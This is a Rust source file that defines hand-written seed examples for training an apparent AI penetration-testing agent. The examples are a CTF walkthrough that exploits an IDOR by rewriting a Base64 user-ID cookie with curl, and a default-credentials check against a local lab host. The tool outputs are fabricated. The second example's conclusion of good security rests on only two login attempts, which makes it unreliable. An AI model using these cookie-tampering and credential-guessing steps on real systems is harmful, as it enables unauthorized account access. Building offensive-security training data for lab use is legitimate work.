//! Built-in seed examples.
//!
//! Every prepared dataset starts with a small set of hand-written
//! exploitation walkthroughs so the training set demonstrates a clean
//! tool-call cadence even when the harvested logs are thin.

use redtrace_types::{Example, FunctionCall, Message, ToolCall};

use crate::format::SYSTEM_PROMPT;

fn call(id: &str, name: &str, arguments: &str) -> ToolCall {
    ToolCall {
        id: id.to_string(),
        function: FunctionCall {
            name: name.to_string(),
            arguments: arguments.to_string(),
        },
    }
}

pub fn seed_examples() -> Vec<Example> {
    vec![idor_walkthrough(), default_credentials_walkthrough()]
}

/// Full IDOR exploitation session: recon, authentication, cookie
/// manipulation, flag recovery.
fn idor_walkthrough() -> Example {
    Example::new(vec![
        Message::system(SYSTEM_PROMPT),
        Message::user(
            "Target: http://172.17.0.1:32775\n\nThis is a Capture The Flag (CTF) challenge. The application contains the following vulnerabilities:\n\n- Insecure Direct Object Reference (IDOR) — Category: Broken Authorization  \n- Default Credentials — Category: Broken Authentication  \n\nThe vulnerability is caused by the application storing the user's ID in a cookie that is Base64 encoded.  \n\nYour task is to analyze the cookies, identify and exploit the IDOR vulnerability (including possible default credentials), and **find the actual flag string** in the format FLAG{...}.  \n\nDo **NOT** fabricate or guess the flag. Only report the valid discovered flag from the target system.",
        ),
        Message::assistant_tool_calls(vec![call(
            "call_recon_001",
            "terminal",
            "{\"command\": \"curl -v http://172.17.0.1:32775/\", \"description\": \"Initial reconnaissance of target application\"}",
        )]),
        Message::observation(
            "HTTP/1.1 200 OK\nServer: uvicorn\nContent-Type: text/html\nSet-Cookie: access_token=\"Bearer MQ==\"; HttpOnly; Path=/; SameSite=lax\n\n<!DOCTYPE html>\n<html>\n<head><title>Login</title></head>\n<body>\n<form method=\"POST\" action=\"/token\">\nUsername: <input name=\"username\" value=\"demo\">\nPassword: <input name=\"password\" value=\"demo\">\n<input type=\"submit\" value=\"Login\">\n</form>\n</body>\n</html>",
        ),
        Message::assistant(
            "Initial reconnaissance successful. I can see the application uses Base64-encoded cookies for authentication. The demo credentials are exposed on the login page. Let me authenticate and analyze the cookie structure.",
        ),
        Message::assistant_tool_calls(vec![call(
            "call_auth_001",
            "terminal",
            "{\"command\": \"curl -X POST -d 'username=demo&password=demo' http://172.17.0.1:32775/token -v\", \"description\": \"Authenticate with demo credentials\"}",
        )]),
        Message::observation(
            "HTTP/1.1 303 See Other\nSet-Cookie: access_token=\"Bearer MQ==\"; HttpOnly; Path=/; SameSite=lax\nLocation: /\n\nCookie analysis: MQ== decodes to user ID \"1\". This confirms the Base64 encoding pattern.",
        ),
        Message::assistant(
            "Authentication successful. The cookie access_token=\"Bearer MQ==\" contains Base64-encoded user ID 1. Now I'll test IDOR by manipulating the cookie to access other user accounts.",
        ),
        Message::assistant_tool_calls(vec![call(
            "call_idor_001",
            "terminal",
            "{\"command\": \"curl -H 'Cookie: access_token=\\\"Bearer Mg==\\\"' http://172.17.0.1:32775/company/2/jobs\", \"description\": \"Test IDOR with user ID 2 (Mg==)\"}",
        )]),
        Message::observation(
            "HTTP/1.1 200 OK\nContent-Type: text/html\n\n<!DOCTYPE html>\n<html>\n<body>\n<h2>Jobs for Company 2</h2>\n<ul class=\"list-group\">\n<li class=\"list-group-item\">\n<p>secret:FLAG{free-palestine}</p>\n</li>\n</ul>\n</body>\n</html>",
        ),
        Message::assistant(
            "Exploitation successful! I've identified and exploited the IDOR vulnerability through Base64 cookie manipulation. The flag FLAG{free-palestine} was extracted from the target application. This demonstrates a critical security flaw in the session management system.",
        ),
    ])
}

/// Default-credentials sweep that ends without a flag.
fn default_credentials_walkthrough() -> Example {
    Example::new(vec![
        Message::system(SYSTEM_PROMPT),
        Message::user(
            "Test for default credentials vulnerability on the target application at http://172.17.0.1:32775. Attempt common username/password combinations and document any successful authentication attempts.",
        ),
        Message::assistant_tool_calls(vec![call(
            "call_creds_001",
            "terminal",
            "{\"command\": \"curl -X POST -d 'username=admin&password=admin' http://172.17.0.1:32775/token -v\", \"description\": \"Test admin/admin credentials\"}",
        )]),
        Message::observation(
            "HTTP/1.1 401 Unauthorized\nContent-Type: application/json\n\n{\"detail\": \"Incorrect username or password\"}",
        ),
        Message::assistant(
            "admin/admin credentials failed. Let me test the demo credentials that were visible on the login page.",
        ),
        Message::assistant_tool_calls(vec![call(
            "call_creds_002",
            "terminal",
            "{\"command\": \"curl -X POST -d 'username=demo&password=demo' http://172.17.0.1:32775/token -v\", \"description\": \"Test demo/demo credentials\"}",
        )]),
        Message::observation(
            "HTTP/1.1 303 See Other\nSet-Cookie: access_token=\"Bearer MQ==\"; HttpOnly; Path=/; SameSite=lax\nLocation: /\n\nAuthentication successful with demo/demo credentials.",
        ),
        Message::assistant(
            "Default credentials testing completed. Only the demo/demo credentials authenticate successfully, setting access_token=\"Bearer MQ==\" (user ID 1). The application demonstrates good security practices for authentication, with no discoverable default credentials beyond the intentionally exposed demo account.",
        ),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seed_examples_validate_cleanly() {
        for example in seed_examples() {
            let verdict = example.validate().unwrap();
            assert!(verdict.valid, "issues: {:?}", verdict.issues);
            assert!(verdict.has_tool_calls);
        }
    }

    #[test]
    fn seed_tool_arguments_are_replayable_json() {
        for example in seed_examples() {
            for message in &example.messages {
                for call in message.tool_calls.iter().flatten() {
                    let args: serde_json::Value =
                        serde_json::from_str(&call.function.arguments).expect("valid JSON");
                    assert!(args.get("command").is_some());
                }
            }
        }
    }
}
